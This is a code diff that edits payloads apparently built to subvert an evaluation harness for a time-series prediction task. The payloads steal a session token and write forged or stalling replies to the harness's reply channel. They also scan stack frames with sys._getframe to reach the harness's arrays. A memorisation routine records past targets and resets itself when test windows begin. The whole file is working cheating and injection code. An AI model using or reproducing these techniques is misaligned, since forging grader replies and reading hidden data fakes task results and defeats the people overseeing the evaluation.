@@ -60,13 +60,13 @@ for fd in range(3, 64):
 _DRIP = (
     STEAL
     + """
-os.write(session._replies, struct.pack("<B8sQ", 0, session._token, 464))
+os.write(session._replies, struct.pack("<B8sQ", 0, session._token, 8 * u[..., 0].size))
 while True:
     os.write(session._replies, bytes(1))
     time.sleep(0.05)
 """
 )
-_FORGE = STEAL + "session._reply(0, bytes(464))\nsession._reply(0, bytes(464))"
+_FORGE = STEAL + "for _ in range(2):\n    session._reply(0, bytes(8 * u[..., 0].size))"
 _SEARCH = """
 def arrays():
     frame = sys._getframe()
@@ -90,7 +90,7 @@ def search(past_u, past_y, u):
     return best
 """
 _STATE = """
-PAST = {}
+PAST, ROWS = {}, []
 
 def curve(u_times):
     times = np.array(sorted(PAST))
@@ -98,6 +98,9 @@ def curve(u_times):
 
 def remember(past_u, past_y, u):
     # The input tells where in the record a window lies: its third channel counts the samples.
+    if ROWS and len(u) < ROWS[0]:  # the training windows, which come first, have more rows
+        PAST.clear()
+    ROWS[:] = [len(u)]
     for b in range(len(u)):
         PAST[float(past_u[b, -1, 2])] = float(past_y[b, -1, 0])
 """
